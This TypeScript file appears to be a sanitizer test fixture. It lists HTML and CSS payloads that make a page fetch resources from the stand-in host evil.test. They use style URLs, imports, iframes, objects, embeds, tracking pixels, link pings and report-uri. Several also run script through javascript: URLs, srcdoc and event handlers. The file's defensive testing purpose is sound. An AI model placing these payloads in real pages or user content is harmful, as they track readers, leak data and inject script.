import type { PayloadClass } from './payload.ts';

/** What would ask another host for something. */
export const loads: PayloadClass = {
  'a style': '<p style="background:url(http://evil.test/style)">một đoạn</p>',
  'a style, escaped': '<p style="b\\61 ckground:u\\72l(http://evil.test/style)">một đoạn</p>',
  'a style of a list':
    '<ul style="list-style:url(http://evil.test/list)"><li style="list-style-image:url(http://evil.test/item)">một mục</li></ul>',
  'a style of contents':
    '<p style="content:url(http://evil.test/content);cursor:url(http://evil.test/cursor),auto;border-image:url(http://evil.test/border)">một đoạn</p>',
  'a style of sets':
    '<p style="background:image-set(url(http://evil.test/set) 1x);mask:url(http://evil.test/mask);filter:url(http://evil.test/filter#x);shape-outside:url(http://evil.test/shape)">một đoạn</p>',
  'a style that computes':
    '<p style="width:expression(ran(this));-moz-binding:url(http://evil.test/xbl#x);behavior:url(http://evil.test/htc)">một đoạn</p>',
  'a style that hides the page':
    '<p style="position:fixed;inset:0;z-index:2147483647;background:url(http://evil.test/cover)">một đoạn</p>',
  'a style element':
    '<style>@import "http://evil.test/import"; * { background: url(http://evil.test/all) }</style>',
  'a style element in the text':
    '<p>một<style>p::after{content:url(http://evil.test/after)}@font-face{font-family:x;src:url(http://evil.test/font)}p{font-family:x}</style> đoạn</p>',
  'a style sheet': '<link rel=stylesheet href=http://evil.test/sheet.css onload=ran(this) onerror=ran(this)>',
  'a style sheet as data':
    '<link rel="stylesheet" href="data:text/css,*{background:url(http://evil.test/data)}">',
  hints:
    '<link rel=preload as=image href=http://evil.test/preload><link rel=prefetch href=http://evil.test/prefetch><link rel=dns-prefetch href=//evil.test><link rel=preconnect href=http://evil.test><link rel=prerender href=http://evil.test/prerender>',
  'a set of a hint':
    '<link rel=preload as=image imagesrcset="http://evil.test/a 1x, http://evil.test/b 2x" imagesizes="100vw">',
  'icons and a manifest':
    '<link rel=icon href=http://evil.test/icon><link rel=manifest href=http://evil.test/manifest><link rel=import href=http://evil.test/import.html>',
  'a frame': '<iframe src="http://evil.test/frame"></iframe>',
  'a frame’s own page':
    '<iframe srcdoc="<script>parent.ran(0)</script><img src=http://evil.test/srcdoc>"></iframe>',
  'a frame’s own page, entities':
    '<iframe srcdoc="&lt;img src&equals;x onerror&equals;parent.ran(this)&gt;"></iframe>',
  'a frame that runs': '<iframe src="javascript:top.ran(0)" onload="ran(this)"></iframe>',
  'a frame that is a page as data': '<iframe src="data:text/html,<script>top.ran(0)</script>"></iframe>',
  'a frame that loads late':
    '<iframe loading=lazy src=http://evil.test/lazy></iframe><iframe data-src="http://evil.test/late"></iframe>',
  'a frame with an empty sandbox':
    '<iframe sandbox="allow-scripts allow-top-navigation" src="http://evil.test/sandbox" allow="camera"></iframe>',
  'a fenced frame, a portal':
    '<fencedframe src="http://evil.test/fenced"></fencedframe><portal src="http://evil.test/portal" onload=ran(this)></portal>',
  'an object':
    '<object data="http://evil.test/object" onload=ran(this) onerror=ran(this)><p>một đoạn</p></object>',
  'an object that is a page as data':
    '<object data="data:text/html,<script>top.ran(0)</script>" type="text/html"></object>',
  'an object that runs':
    '<object data="javascript:ran(this)"></object><object type="text/x-scriptlet" data="http://evil.test/scriptlet"></object>',
  'an object’s parameters':
    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:ran(this)><param name="movie" value="http://evil.test/movie"></object>',
  'an embed': '<embed src="http://evil.test/embed" onload=ran(this)>',
  'an embed that runs':
    '<embed src="javascript:ran(this)"><embed code="javascript:ran(this)" allowscriptaccess=always>',
  'an applet':
    '<applet code="x" codebase="http://evil.test/applet" archive="http://evil.test/a.jar" onload=ran(this)></applet>',
  'a layer':
    '<layer src="http://evil.test/layer"></layer><ilayer src="http://evil.test/ilayer"></ilayer><bgsound src="http://evil.test/bgsound">',
  'a sheet of XML':
    '<xml id=x src="http://evil.test/xml"></xml><span datasrc=#x datafld=y dataformatas=html></span>',
  'a sound that plays': '<audio autoplay loop src="http://evil.test/sound.mp3"></audio>',
  'a video that plays':
    '<video autoplay muted preload=auto src="http://evil.test/video.mp4"><track default src="http://evil.test/track.vtt"></video>',
  'sources that play':
    '<video autoplay preload=auto><source src="http://evil.test/source.mp4"><source src="http://evil.test/source.webm"></video>',
  'a counter of readers': '<img src="http://evil.test/pixel.gif" width=1 height=1>',
  'a counter of readers that is hidden':
    '<img src="http://evil.test/count" style="display:none"><img hidden src="http://evil.test/hidden.jpg">',
  'a picture that tells where it is seen':
    '<img src="x" attributionsrc="http://evil.test/attribution" elementtiming=x fetchpriority=high>',
  'a link that tells':
    '<a href="/bai-so-1.htm" ping="http://evil.test/ping" attributionsrc="http://evil.test/attribution">một liên kết</a>',
  'a background of the body': '<body background="http://evil.test/background">một phần',
  'a background of a table':
    '<table background="http://evil.test/table"><tr background="http://evil.test/row"><td background="http://evil.test/cell">một ô</td></tr></table>',
  'a picture of a field': '<input type=image src="http://evil.test/input" onerror=ran(this)>',
  'a report':
    '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri http://evil.test/report">',
  'an icon of a details':
    '<details open ontoggle=ran(this)><summary style="list-style:url(http://evil.test/marker)">x</summary><img loading=eager src="http://evil.test/details" width=1 height=1></details>',
};
